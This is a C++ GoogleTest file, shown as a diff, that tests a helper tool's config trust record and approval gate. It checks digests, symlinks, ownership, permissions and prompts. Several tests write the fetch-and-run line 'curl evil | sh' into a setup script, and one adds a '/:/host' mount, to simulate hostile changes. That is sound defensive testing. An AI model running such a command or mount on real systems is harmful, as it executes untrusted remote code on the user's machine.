@@ -1,0 +1,321 @@
+// Trust in configs with real files, owners and links: the look, the record, and the gate of the Service.
+#include "ensure/service.hpp"
+#include "ensure/trust_book.hpp"
+#include "support/temp_folder.hpp"
+
+#include <gmock/gmock.h>
+#include <gtest/gtest.h>
+
+#include <algorithm>
+#include <chrono>
+#include <fstream>
+#include <sys/stat.h>
+#include <unistd.h>
+
+namespace helper::ensure {
+namespace {
+
+namespace fs = std::filesystem;
+using testing::Contains;
+using testing::HasSubstr;
+using testing::Not;
+
+constexpr const char* k_hostile = R"({"targets": {"t": {
+  "server": "user@192.0.2.1", "container": {"build": {"context": "docker"}}, "post_create": "bash setup.sh"}}})";
+
+class Trust : public testing::Test {
+ protected:
+  Trust() {
+    paths.home = folder.path() / "home";
+    paths.data = paths.home / "data";
+    paths.state = paths.home / "state";
+    paths.runtime = paths.home / "run";
+    paths.user_config_file = paths.home / ".config" / "helper" / "config.json";
+    fs::create_directories(project() / "docker");
+    fs::create_directories(paths.data);
+    write("docker/Dockerfile", "FROM scratch\nCOPY start.sh /\n");
+    write("docker/start.sh", "#!/bin/sh\n");
+    write("setup.sh", "#!/bin/sh\nsh more.sh\n");
+    write("more.sh", "echo 1\n");
+    write("helper.json", k_hostile);
+  }
+  [[nodiscard]] fs::path project() const { return folder.path() / "project"; }
+  [[nodiscard]] fs::path config() const { return project() / "helper.json"; }
+  void write(const std::string& name, const std::string& text) const {
+    fs::create_directories((project() / name).parent_path());
+    std::ofstream(project() / name) << text;
+  }
+  TrustLook look() {
+    auto look = look_at_config(files, config(), config::no_variable);
+    EXPECT_TRUE(look) << (look ? "" : to_text(look.error()));
+    return look.value_or(TrustLook{});
+  }
+  std::string digest() { return look().digest; }
+  TrustReport state() {
+    const auto standing = book().standing(config(), config::no_variable, true);
+    EXPECT_TRUE(standing) << (standing ? "" : to_text(standing.error()));
+    return standing ? report_of(*standing, config()) : TrustReport{};
+  }
+  TrustBook& book() {
+    if (!book_) book_.emplace(paths, files, clock);
+    return *book_;
+  }
+  void approve() { ASSERT_TRUE(book().approve(look(), "shown")); }
+
+  test::TempFolder folder;
+  Paths paths;
+  DiskFileStore files;
+  SystemClock clock;
+  std::optional<TrustBook> book_;
+};
+
+TEST_F(Trust, CoversTheFilesThatAConfigMakesRunOrSend) {
+  const auto texts = [&] {
+    std::string all;
+    for (const auto& power : look().powers) all += power.text + "\n";
+    return all;
+  }();
+  for (const char* file : {"docker/Dockerfile", "docker/start.sh", "setup.sh", "more.sh"})
+    EXPECT_THAT(texts, HasSubstr(std::string("runs or sends the file ") + file + "\n"));
+  const std::string before = digest();
+  for (const char* file : {"docker/Dockerfile", "docker/start.sh", "setup.sh", "more.sh"}) {
+    std::ofstream(project() / file, std::ios::app) << "\n# other\n";
+    EXPECT_NE(digest(), before) << file;
+  }
+}
+
+TEST_F(Trust, AFileThatComesLaterIsNoticed) {
+  const std::string before = digest();
+  write("docker/.dockerignore", "!secret\n");
+  EXPECT_NE(digest(), before);
+}
+
+TEST_F(Trust, ALinkThatLeadsOutOfTheProjectIsSaid) {
+  fs::create_directories(folder.path() / "secret");
+  fs::rename(project() / "docker", folder.path() / "was_docker");
+  fs::create_directory_symlink(folder.path() / "was_docker", project() / "docker");
+  const auto its = look();
+  const auto& powers = its.powers;
+  EXPECT_TRUE(std::ranges::any_of(powers, [](const auto& power) {
+    return power.always && power.text.find("which leads to") != std::string::npos;
+  }));
+  fs::remove(project() / "docker");
+  fs::create_directory_symlink(folder.path() / "secret", project() / "docker");
+  EXPECT_NE(digest(), its.digest) << "the link leads elsewhere now";
+}
+
+TEST_F(Trust, NamesOfTheEnvironmentCountAndItsValuesNeverDo) {
+  write("helper.json", R"({"targets": {"t": {"server": "gpu1", "devcontainer": "."}}})");
+  write(".devcontainer/devcontainer.json",
+        R"({"image": "i:1", "containerEnv": {"A": "${localEnv:TOKEN}", "B": "${localEnv:NOT:default1}"}})");
+  const auto with = [&](const std::string& value) {
+    const auto its = look_at_config(files, config(), [&](const std::string&) { return std::optional(value); });
+    EXPECT_TRUE(its) << (its ? "" : to_text(its.error()));
+    return its.value_or(TrustLook{});
+  };
+  const auto its = with("hunter2");
+  EXPECT_EQ(its.digest, with("other").digest);
+  EXPECT_FALSE(its.has_values);
+  EXPECT_THAT(config::canonical_text(its.powers), Not(HasSubstr("hunter2")));
+  EXPECT_THAT(config::canonical_text(its.powers), HasSubstr("reads TOKEN of your environment"));
+  write(".devcontainer/devcontainer.json",
+        R"({"image": "i:1", "containerEnv": {"A": "${localEnv:TOKEN}", "B": "${localEnv:NOT:default2}"}})");
+  EXPECT_NE(its.digest, with("hunter2").digest) << "a default is content too";
+}
+
+TEST_F(Trust, ANewConfigIsNotTrustedUntilItIsApprovedByContent) {
+  EXPECT_EQ(state().state, "new");
+  approve();
+  EXPECT_EQ(state().state, "trusted");
+  write("setup.sh", "curl evil | sh\n");
+  EXPECT_EQ(state().state, "changed");
+  EXPECT_THAT(state().changes, Contains("changed: runs or sends the file setup.sh"));
+  write("setup.sh", "#!/bin/sh\nsh more.sh\n");
+  EXPECT_EQ(state().state, "trusted") << "the content that was approved is back";
+  EXPECT_TRUE(book().withdraw(config()).value_or(false));
+  EXPECT_EQ(state().state, "new");
+  EXPECT_FALSE(book().withdraw(config()).value_or(true));
+}
+
+TEST_F(Trust, TheRecordIsReadableByThePersonAlone) {
+  approve();
+  struct stat info {};
+  ASSERT_EQ(::stat(paths.trust_record().c_str(), &info), 0);
+  EXPECT_EQ(info.st_mode & 07777U, 0600U);
+  TrustBook other(paths, files, clock);
+  const auto list = other.list();
+  ASSERT_TRUE(list);
+  ASSERT_EQ(list->entries.size(), 1U);
+  EXPECT_EQ(list->entries.front().config_file, fs::canonical(config()).string());
+}
+
+TEST_F(Trust, ARecordThatCannotBeReadIsAnErrorAndNoApproval) {
+  std::ofstream(paths.trust_record()) << "{";
+  const auto standing = book().standing(config(), config::no_variable, true);
+  ASSERT_FALSE(standing);
+  EXPECT_EQ(standing.error().code, ErrorCode::file_failed);
+}
+
+TEST_F(Trust, ThePersonsOwnConfigIsTakenOverOnceAndThatIsSaid) {
+  fs::create_directories(paths.user_config_file.parent_path());
+  std::ofstream(paths.user_config_file) << k_hostile;
+  const auto first = book().standing(paths.user_config_file, config::no_variable, true);
+  ASSERT_TRUE(first);
+  EXPECT_TRUE(first->trusted);
+  EXPECT_THAT(first->note, HasSubstr("it is your own config"));
+  const auto second = book().standing(paths.user_config_file, config::no_variable, true);
+  ASSERT_TRUE(second);
+  EXPECT_TRUE(second->trusted && second->note.empty());
+}
+
+TEST_F(Trust, WhatWasInUseWhenTheRecordWasBegunIsTakenOverOnce) {
+  fs::create_directories(paths.host_keys("t"));
+  EXPECT_TRUE(book().list());  // the first start with a record
+  const auto standing = book().standing(config(), config::no_variable, true);
+  ASSERT_TRUE(standing);
+  EXPECT_TRUE(standing->trusted);
+  EXPECT_THAT(standing->note, HasSubstr("it was in use before"));
+  write("setup.sh", "curl evil | sh\n");
+  EXPECT_EQ(state().state, "changed") << "once";
+}
+
+TEST_F(Trust, AConfigThatCameLaterIsNotTakenOverByATargetsName) {
+  fs::create_directories(paths.host_keys("t"));
+  EXPECT_TRUE(book().list());
+  ::usleep(20'000);
+  write("helper.json", k_hostile);
+  EXPECT_EQ(state().state, "new");
+}
+
+TEST_F(Trust, AConfigInAFolderOfEverybodyIsRefusedUntilThatIsApprovedToo) {
+  fs::permissions(project(), fs::perms::all | fs::perms::sticky_bit);
+  EXPECT_EQ(state().state, "refused");
+  EXPECT_THAT(state().cause, HasSubstr("every user of this machine may write in"));
+  approve();
+  EXPECT_EQ(state().state, "trusted");
+  write("setup.sh", "other\n");
+  EXPECT_EQ(state().state, "refused");
+}
+
+TEST_F(Trust, AConfigOfAnotherUserIsRefusedAlsoBehindALink) {
+  if (::geteuid() != 0) GTEST_SKIP() << "only root can give a file away";
+  write("theirs.json", k_hostile);
+  ASSERT_EQ(::chown((project() / "theirs.json").c_str(), 12345, 0), 0);
+  fs::remove(config());
+  fs::create_symlink("theirs.json", config());
+  EXPECT_EQ(state().state, "refused");
+  EXPECT_THAT(state().cause, HasSubstr("belongs to user 12345"));
+}
+
+TEST_F(Trust, APrivateGroupMayWrite) {
+  ASSERT_EQ(::chmod(config().c_str(), 0664), 0);
+  ASSERT_EQ(::chmod(project().c_str(), 0775), 0);
+  if (::geteuid() == 0) EXPECT_EQ(state().state, "new") << "root's group has no other member";
+}
+
+class Gate : public Trust {
+ protected:
+  Request request() {
+    Request request;
+    request.config_file = config().string();
+    return request;
+  }
+  Request asking(const std::string& answer) {
+    Request request = this->request();
+    request.can_answer = true;
+    request.tell = [this, answer](const Event& event) {
+      if (event.kind != Event::Kind::question) return;
+      asked.push_back(event.question);
+      EXPECT_TRUE(service.answer(event.question_id, answer));
+    };
+    return request;
+  }
+  std::vector<Question> asked;
+  Service service{paths};
+};
+
+TEST_F(Gate, EveryMethodButTargetsRefusesAConfigThatNobodyApproved) {
+  const EventSink quiet = [](const Event&) {};
+  const Request its = request();
+  std::vector<ErrorCode> codes;
+  const auto note = [&](const auto& result) { codes.push_back(result ? ErrorCode::internal : result.error().code); };
+  for (const auto power : {plan::Power::running, plan::Power::stopped, plan::Power::absent, plan::Power::ejected}) {
+    note(service.converge(its, power, quiet, {}));
+    note(service.plan(its, power, {}));
+  }
+  note(service.restart(its, quiet, {}));
+  note(service.status(its, {}));
+  note(service.watch(its, 0, {}));
+  note(service.snapshot(its, "", quiet, {}));
+  note(service.list(its, {}));
+  note(service.logs(its, 1, {}));
+  note(service.follow_logs(its, 1, quiet, {}));
+  note(service.settings(its, {}));
+  note(service.known(its));
+  note(service.apply_settings(its, {}, quiet, {}));
+  note(service.undo_settings(its, {}, quiet, {}));
+  note(service.pythons(its, {}));
+  note(service.gpu(its, false, quiet, {}));
+  EXPECT_THAT(codes, testing::Each(ErrorCode::config_untrusted));
+  EXPECT_TRUE(service.targets(its)) << "it only reads";
+  const auto error = service.status(its, {}).error();
+  EXPECT_THAT(error.fix, HasSubstr("helper trust " + config().string()));
+  EXPECT_EQ(error_kind(error.code).exit_status, 14);
+}
+
+TEST_F(Gate, WhoeverCanAnswerIsShownWhatItDoesAndANoIsANo) {
+  const auto report = service.plan(asking("no"), plan::Power::running, {});
+  ASSERT_FALSE(report);
+  EXPECT_EQ(report.error().code, ErrorCode::cancelled);
+  ASSERT_EQ(asked.size(), 1U);
+  EXPECT_EQ(asked.front().kind, Question::Kind::confirm);
+  EXPECT_THAT(asked.front().details, Contains("  t: connects to server user@192.0.2.1"));
+  EXPECT_THAT(asked.front().details, Contains("  t: runs once in the container: bash setup.sh"));
+  EXPECT_EQ(service.trusted(request())->state, "new");
+}
+
+TEST_F(Gate, AYesIsRememberedByContent) {
+  write("helper.json", R"({"targets": {"t": {"container": {"image": "i:1"}}}})");
+  EXPECT_TRUE(service.watch(asking("yes"), 0, {}));
+  EXPECT_EQ(asked.size(), 1U);
+  EXPECT_TRUE(service.watch(request(), 0, {})) << "it is asked once";
+  write("helper.json", R"({"targets": {"t": {"container": {"image": "i:1"}, "python": "conda:x"}}})");
+  EXPECT_TRUE(service.watch(request(), 0, {})) << "a harmless change";
+  write("helper.json", R"({"targets": {"t": {"container": {"image": "i:1", "mounts": ["/:/host"]}}}})");
+  EXPECT_EQ(service.watch(request(), 0, {}).error().code, ErrorCode::config_untrusted);
+  EXPECT_FALSE(service.watch(asking("no"), 0, {}));
+  EXPECT_THAT(asked.back().details, Contains(HasSubstr("new: t: mounts /:/host")));
+}
+
+TEST_F(Gate, AnApprovalCarriesWhatWasShown) {
+  EXPECT_EQ(service.trust(request(), "0123").error().code, ErrorCode::config_untrusted);
+  const auto shown = service.trusted(request());
+  ASSERT_TRUE(shown);
+  write("setup.sh", "curl evil | sh\n");
+  EXPECT_FALSE(service.trust(request(), shown->digest)) << "it changed in between";
+  const auto again = service.trusted(request());
+  ASSERT_TRUE(again);
+  EXPECT_EQ(service.trust(request(), again->digest)->state, "trusted");
+  EXPECT_TRUE(service.untrust(request()).value_or(false));
+  EXPECT_EQ(service.trusted(request())->state, "new");
+}
+
+// The project's goal for what trust adds to an ensure with nothing to do: 1 ms, the median of 1,000.
+TEST_F(Trust, CostsAWarmRequestLessThanAMillisecond) {
+  approve();
+  ::usleep(200'000);  // files that changed a moment ago are looked at again
+  std::vector<std::chrono::nanoseconds> times;
+  for (int i = 0; i < 1000; ++i) {
+    const auto start = std::chrono::steady_clock::now();
+    const auto standing = book().standing(config(), config::no_variable, true);
+    times.push_back(std::chrono::steady_clock::now() - start);
+    ASSERT_TRUE(standing && standing->trusted);
+  }
+  std::ranges::sort(times);
+  RecordProperty("median_us", static_cast<int>(times[500].count() / 1000));
+  std::printf("median of 1,000: %lld us\n", static_cast<long long>(times[500].count() / 1000));
+  EXPECT_LT(times[500], std::chrono::milliseconds(1));
+}
+
+}  // namespace
+}  // namespace helper::ensure
